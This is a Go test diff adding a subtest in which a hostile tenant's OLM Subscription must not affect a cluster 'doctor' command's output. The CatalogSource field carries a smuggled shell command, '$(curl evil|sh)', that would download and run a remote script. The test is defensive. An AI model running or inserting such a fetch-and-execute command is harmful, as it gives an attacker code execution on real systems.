@@ -1,6 +1,7 @@
 package reports_test
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
@@ -54,4 +55,22 @@ func TestHostileTenant(t *testing.T) {
 			}
 		})
 	}
+	// A tenant subscribes to the operator of a driver that nobody has installed: that is no fault of the cluster.
+	t.Run("doctor", func(t *testing.T) {
+		stranger := &v1alpha1.Subscription{
+			ObjectMeta: metav1.ObjectMeta{Namespace: somebody.Project(t, "reports-doctor"), Name: "m"},
+			Spec:       &v1alpha1.SubscriptionSpec{Package: "manila-csi-driver-operator", Channel: "stable", CatalogSource: "$(curl evil|sh); x", CatalogSourceNamespace: "openshift-marketplace"},
+		}
+		if err := somebody.Client.Create(t.Context(), stranger); err != nil {
+			t.Fatal(err)
+		}
+		out, stderr, code := run(t, berth, t.TempDir(), "doctor", "--kubeconfig", c.Kubeconfig())
+		if code != 0 || strings.Contains(out, "manila") {
+			t.Errorf("exit code %d, want 0 and nothing of the tenant's driver:\n%s%s", code, out, stderr)
+		}
+		out, _, code = run(t, berth, t.TempDir(), "doctor", "manila", "--kubeconfig", c.Kubeconfig())
+		if code != 1 || !strings.Contains(out, "no Subscription from which OLM would install it") {
+			t.Errorf("exit code %d, want 1 and that no Subscription counts, when an administrator names the driver:\n%s", code, out)
+		}
+	})
 }
